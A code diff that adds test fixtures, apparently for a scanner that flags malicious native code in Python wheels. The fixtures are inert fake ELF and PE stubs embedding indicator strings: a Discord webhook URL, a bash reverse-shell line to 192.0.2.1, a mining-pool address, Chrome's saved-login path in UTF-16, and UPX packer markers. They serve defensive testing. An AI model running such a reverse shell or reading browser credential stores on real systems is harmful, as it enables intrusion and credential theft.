@@ -243,7 +243,7 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
-    "native-indicator": (
+    "native-exfiltration-endpoint": (
         "nat-0.1-cp311-cp311-linux_x86_64.whl",
         wheel(
             "nat",
@@ -251,6 +251,53 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             {
                 "nat/__init__.py": "",
                 "nat/_core.so": b"\x7fELF\x00\x00https://discord.com/api/webhooks/1234/inert\x00",
+            },
+        ),
+    ),
+    "native-reverse-shell": (
+        "rsh-0.1-cp311-cp311-linux_x86_64.whl",
+        wheel(
+            "rsh",
+            "0.1",
+            {
+                "rsh/__init__.py": "",
+                "rsh/_core.so": b"\x7fELF\x00\x00bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\x00",
+            },
+        ),
+    ),
+    "native-crypto-miner": (
+        "mnr-0.1-cp311-cp311-linux_x86_64.whl",
+        wheel(
+            "mnr",
+            "0.1",
+            {
+                "mnr/__init__.py": "",
+                "mnr/_core.so": b"\x7fELF\x00\x00stratum+tcp://pool.example.invalid:3333\x00",
+            },
+        ),
+    ),
+    # A Windows stealer keeps its paths as UTF-16: the old ASCII strings scan never saw them.
+    "native-credential-store": (
+        "stl-0.1-cp311-cp311-win_amd64.whl",
+        wheel(
+            "stl",
+            "0.1",
+            {
+                "stl/__init__.py": "",
+                "stl/_core.pyd": b"MZ\x90\x00"
+                + "\\Google\\Chrome\\User Data\\Default\\Login Data".encode("utf-16-le")
+                + b"\x00\x00",
+            },
+        ),
+    ),
+    "native-packed-executable": (
+        "upx-0.1-cp311-cp311-linux_x86_64.whl",
+        wheel(
+            "upx",
+            "0.1",
+            {
+                "upx/__init__.py": "",
+                "upx/_core.so": b"\x7fELF\x00\x00UPX0\x00\x00UPX1\x00UPX!\x0d\x00",
             },
         ),
     ),
